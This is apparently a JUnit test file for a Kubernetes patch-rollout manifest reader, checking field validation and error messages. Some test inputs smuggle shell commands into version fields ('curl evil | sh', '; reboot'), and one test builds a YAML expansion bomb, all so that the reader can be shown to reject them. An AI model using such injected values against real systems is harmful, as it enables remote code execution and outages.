package io.fleetgate.render;

import static org.assertj.core.api.Assertions.assertThat;

import io.fleetgate.domain.LabelSelector;
import io.fleetgate.rollout.FailurePolicy;
import io.fleetgate.rollout.Gate;
import io.fleetgate.rollout.PatchRollout;
import io.fleetgate.rollout.RolloutCatalog;
import io.fleetgate.rollout.RolloutProblem;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class RolloutFilesTest {

  @TempDir Path repo;

  private static final FleetSpec FLEET =
      new FleetSpec(
          List.of(),
          true,
          List.of(),
          FleetSpec.SloSettings.NONE,
          List.of(
              new FleetSpec.Wave(
                  "canary",
                  new LabelSelector(Map.of("provider", "aws"), List.of()),
                  io.fleetgate.domain.SourceLocation.file("fleet.yaml"))));

  private static final java.util.Set<String> SLOS = java.util.Set.of("checkout", "search");

  private static final String HEAD =
      """
      apiVersion: fleetgate.io/v1alpha1
      kind: PatchRollout
      metadata:
        name: kernel
      spec:
      """;

  private RolloutCatalog read(String text) throws Exception {
    Files.createDirectories(repo.resolve("rollouts"));
    Files.writeString(repo.resolve("rollouts/kernel.yaml"), text);
    return RolloutFiles.read(repo, ManifestLimits.defaults(), FLEET, SLOS);
  }

  @Test
  void readsEveryPartOfARollout() throws Exception {
    RolloutCatalog catalog =
        read(
            HEAD
                + """
                  target:
                    kubernetesVersion: v1.34.4
                    kernelVersion: 6.8.0-88-generic
                  waves:
                    - name: canary
                      soak: 1h30m
                      gates:
                        health: {minReadyNodes: 90%}
                    - name: rest
                      clusters: [beijing-prod, guangzhou-prod]
                      maxParallel: 2
                      maxUnavailableNodes: 3
                      gates:
                        noPolicyDenials: true
                        sloBurnRate: {slo: checkout, maxBurnRate: 2, window: 6h}
                        approval: {group: change-board}
                        maintenanceWindow:
                          schedule: "0 1 * * SAT"
                          duration: 4h
                          timeZone: Asia/Shanghai
                  onFailure: rollback
                """);

    assertThat(catalog.problems()).isEmpty();
    PatchRollout rollout = catalog.named("kernel").orElseThrow();
    assertThat(rollout.target().kubernetesVersion()).contains("v1.34.4");
    assertThat(rollout.target().osImage()).isEmpty();
    assertThat(rollout.onFailure()).isEqualTo(FailurePolicy.ROLLBACK);
    assertThat(rollout.declaredAt().toString()).isEqualTo("rollouts/kernel.yaml:1");
    var canary = rollout.waves().get(0);
    assertThat(canary.clusters().from()).isEqualTo("fleet.yaml spec.waves[canary]");
    assertThat(canary.clusters().reaches("any", Map.of("provider", "aws"))).isTrue();
    assertThat(canary.clusters().reaches("any", Map.of("provider", "alibaba"))).isFalse();
    assertThat(canary.soak()).isEqualTo(Duration.ofMinutes(90));
    assertThat(canary.maxParallel()).isEqualTo(1);
    assertThat(canary.gates()).containsExactly(new Gate.Healthy(90));
    var rest = rollout.waves().get(1);
    assertThat(rest.clusters().names()).containsExactly("beijing-prod", "guangzhou-prod");
    assertThat(rest.maxParallel()).isEqualTo(2);
    assertThat(rest.maxUnavailableNodes()).isEqualTo(3);
    assertThat(rest.gates())
        .hasSize(4)
        .contains(
            new Gate.NoPolicyDenials(),
            new Gate.SloBurn("checkout", 2.0, "6h"),
            new Gate.Approval("change-board"));
    Gate.InWindow window = (Gate.InWindow) rest.gates().getLast();
    assertThat(window.window().zone()).isEqualTo(ZoneId.of("Asia/Shanghai"));
    assertThat(window.window().duration()).isEqualTo(Duration.ofHours(4));
  }

  /** A spec body, and the problem it must give: {@code line: field: message}. */
  record Case(String spec, String problem, String name) {
    Case(String spec, String problem) {
      this(spec, problem, "kernel");
    }

    @Override
    public String toString() {
      return problem;
    }
  }

  static List<Case> refusals() {
    String wave = "  waves: [{name: canary}]\n";
    String target = "  target: {kernelVersion: 6.8.0-88-generic}\n";
    return List.of(
        new Case(wave, "5: spec.target: is required"),
        new Case("  target: {}\n" + wave, "6: spec.target: names nothing to roll out"),
        new Case(
            "  target: {kubernetesVersion: \"1.34\"}\n" + wave,
            "6: spec.target.kubernetesVersion: must be a Kubernetes release such as v1.34.4"),
        new Case(
            "  target: {kernelVersion: \"6.8.0; curl evil | sh\"}\n" + wave,
            "6: spec.target.kernelVersion: must be a kernel release as nodes report it"),
        new Case(
            "  target: {osImage: \"Ubuntu\\n; reboot\"}\n" + wave,
            "6: spec.target.osImage: must be an OS image as nodes report it"),
        new Case(
            "  target: {kernel: x}\n" + wave,
            "6: spec.target.kernel: is not a field; expected one of kernelVersion,"
                + " kubernetesVersion, osImage"),
        new Case(target, "5: spec.waves: is required"),
        new Case(target + "  waves: []\n", "7: spec.waves: must list at least one wave"),
        new Case(
            target + "  waves: [{name: everywhere}]\n",
            "7: spec.waves[0]: wave 'everywhere' names no clusters: give it a clusterSelector or"
                + " clusters, or declare a wave named 'everywhere' in fleet.yaml spec.waves"),
        new Case(
            target + "  waves: [{name: Canary}]\n",
            "7: spec.waves[0].name: must be lower-case letters"),
        new Case(
            target + "  waves: [{name: canary}, {name: canary}]\n",
            "7: spec.waves[1].name: wave 'canary' is declared twice"),
        new Case(
            target + "  waves:\n    - name: a\n      clusters: [x]\n      clusterSelector: {}\n",
            "8: spec.waves[0]: give clusterSelector or clusters, not both"),
        new Case(
            target + "  waves:\n    - name: a\n      clusters: []\n",
            "9: spec.waves[0].clusters: must name at least one cluster"),
        new Case(
            target
                + "  waves:\n    - name: a\n      clusterSelector:\n        matchExpressions:\n"
                + "          - {key: env, operator: Within, values: [prod]}\n",
            "11: spec.waves[0].clusterSelector.matchExpressions[0].operator: unknown operator"
                + " 'Within'"),
        new Case(
            target + "  waves:\n    - name: canary\n      maxParallel: 0\n",
            "9: spec.waves[0].maxParallel: must be a whole number from 1 to 10000, not 0"),
        new Case(
            target + "  waves:\n    - name: canary\n      maxUnavailableNodes: 1.5\n",
            "9: spec.waves[0].maxUnavailableNodes: must be a whole number"),
        new Case(
            target + "  waves:\n    - name: canary\n      soak: forever\n",
            "9: spec.waves[0].soak: must be a duration such as 30m, 2h or 1h30m"),
        new Case(
            target + "  waves:\n    - name: canary\n      soak: 400d\n",
            "9: spec.waves[0].soak: must be a duration"),
        new Case(
            target + "  waves:\n    - name: canary\n      pause: 1h\n",
            "9: spec.waves[0].pause: is not a field"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n        aproval: {group: x}\n",
            "10: spec.waves[0].gates.aproval: is not a field; expected one of approval, health,"
                + " maintenanceWindow, noPolicyDenials, sloBurnRate"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        health: {minReadyNodes: 120%}\n",
            "10: spec.waves[0].gates.health.minReadyNodes: must be a share of nodes from 0% to"
                + " 100%"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        sloBurnRate: {slo: x, maxBurnRate: 0}\n",
            "10: spec.waves[0].gates.sloBurnRate.maxBurnRate: must be above 0"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        sloBurnRate: {maxBurnRate: 2}\n",
            "10: spec.waves[0].gates.sloBurnRate.slo: is required"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n        approval: {}\n",
            "10: spec.waves[0].gates.approval.group: is required"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n"
                + "          schedule: \"0 25 * * SAT\"\n          duration: 4h\n",
            "11: spec.waves[0].gates.maintenanceWindow.schedule: hour field '25': 25 is outside"
                + " 0–23"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n"
                + "          schedule: \"0 1 * * SAT\"\n",
            "10: spec.waves[0].gates.maintenanceWindow.duration: is required"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n"
                + "          schedule: \"0 1 * * SAT\"\n          duration: 8d\n",
            "12: spec.waves[0].gates.maintenanceWindow.duration: must be more than 0 and at most"
                + " 7d"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n"
                + "          schedule: \"0 1 * * SAT\"\n          duration: 4h\n"
                + "          timeZone: Mars/Olympus\n",
            "13: spec.waves[0].gates.maintenanceWindow.timeZone: 'Mars/Olympus' is not a time"
                + " zone; use an IANA name such as Asia/Shanghai"),
        new Case(
            target + wave + "  onFailure: retry\n",
            "8: spec.onFailure: must be 'halt' (stop where the rollout is) or 'rollback'"),
        new Case(target + wave + "  paused: true\n", "8: spec.paused: is not a field"),
        new Case(
            "  target: {kernelVersion: k}\n" + wave,
            "4: metadata.name: must be lower-case letters, digits, '-' and '.'",
            "Kernel_2026"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n        approval:\n",
            "10: spec.waves[0].gates.approval: must be a mapping"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n        health:\n",
            "10: spec.waves[0].gates.health: must be a mapping"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n",
            "10: spec.waves[0].gates.maintenanceWindow: must be a mapping"),
        new Case(
            target + "  waves:\n    - name: canary\n      gates:\n",
            "9: spec.waves[0].gates: must be a mapping of gates; leave it out for none"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        noPolicyDenials: yes-please\n",
            "10: spec.waves[0].gates.noPolicyDenials: must be true or false"),
        new Case(
            target + "  waves:\n    - name: canary\n      soak: " + "0s".repeat(6_000) + "\n",
            "9: spec.waves[0].soak: must be a duration"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        sloBurnRate: {slo: chekout, maxBurnRate: 2}\n",
            "10: spec.waves[0].gates.sloBurnRate.slo: no SLO named 'chekout' in slos/; the SLOs"
                + " there: checkout, search"),
        new Case(
            target
                + "  waves:\n    - name: canary\n      gates:\n        maintenanceWindow:\n"
                + "          schedule: \"0 0 30 2 *\"\n          duration: 4h\n",
            "11: spec.waves[0].gates.maintenanceWindow.schedule: '0 0 30 2 *' never fires"),
        new Case(
            target
                + "  waves:\n    - name: a\n      clusterSelector:\n        matchExpressions:\n"
                + "          - {key: env, operator: NotIn, values: []}\n",
            "11: spec.waves[0].clusterSelector.matchExpressions[0].values: NotIn needs at least one"
                + " value"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("refusals")
  void refusesWithFileLineAndField(Case c) throws Exception {
    RolloutCatalog catalog = read(HEAD.replace("name: kernel", "name: " + c.name()) + c.spec());

    assertThat(catalog.rollouts()).isEmpty();
    assertThat(catalog.problems())
        .extracting(RolloutProblem::toString)
        .anySatisfy(p -> assertThat(p).startsWith("rollouts/kernel.yaml:" + c.problem()));
  }

  @Test
  void refusesOtherKindsAndSecondDeclarationsButKeepsTheGoodRollouts() throws Exception {
    Files.createDirectories(repo.resolve("rollouts"));
    String good =
        HEAD.replace("kernel", "one") + "  target: {kernelVersion: k}\n  waves: [{name: canary}]\n";
    Files.writeString(repo.resolve("rollouts/a.yaml"), good);
    Files.writeString(repo.resolve("rollouts/b.yaml"), good);
    Files.writeString(
        repo.resolve("rollouts/c.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n");

    RolloutCatalog catalog = RolloutFiles.read(repo, ManifestLimits.defaults(), FLEET, SLOS);

    assertThat(catalog.rollouts()).extracting(PatchRollout::name).containsExactly("one");
    assertThat(catalog.problems())
        .extracting(RolloutProblem::toString)
        .containsExactly(
            "rollouts/b.yaml:4: metadata.name: rollout 'one' is already declared at"
                + " rollouts/a.yaml:1",
            "rollouts/c.yaml:1: rollouts/ holds fleetgate.io/v1alpha1 PatchRollout documents only"
                + " (found v1 ConfigMap)");
  }

  @Test
  void aRolloutIsNamedAsKubernetesNamesObjects() throws Exception {
    RolloutCatalog catalog =
        read(
            HEAD.replace("name: kernel", "name: kubelet-v1.34.4")
                + "  target: {kubernetesVersion: v1.34.4}\n  waves: [{name: canary}]\n");

    assertThat(catalog.problems()).isEmpty();
    assertThat(catalog.named("kubelet-v1.34.4")).isPresent();
  }

  @Test
  void aRepositoryWithoutRolloutsHasNone() {
    RolloutCatalog catalog = RolloutFiles.read(repo, ManifestLimits.defaults(), FLEET, SLOS);

    assertThat(catalog.rollouts()).isEmpty();
    assertThat(catalog.problems()).isEmpty();
  }

  @Test
  void aFileThatExpandsBeyondTheLimitsIsAProblemNotAnOutage() throws Exception {
    Files.createDirectories(repo.resolve("rollouts"));
    StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'k'; c++) {
      bomb.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 10; i++) {
        bomb.append(i == 0 ? "" : ", ").append('*').append(prev);
      }
      bomb.append("]\n");
      prev = c;
    }
    Files.writeString(repo.resolve("rollouts/bomb.yaml"), bomb);

    RolloutCatalog catalog = RolloutFiles.read(repo, ManifestLimits.defaults(), FLEET, SLOS);

    assertThat(catalog.rollouts()).isEmpty();
    assertThat(catalog.problems()).singleElement().asString().startsWith("rollouts/bomb.yaml");
  }
}
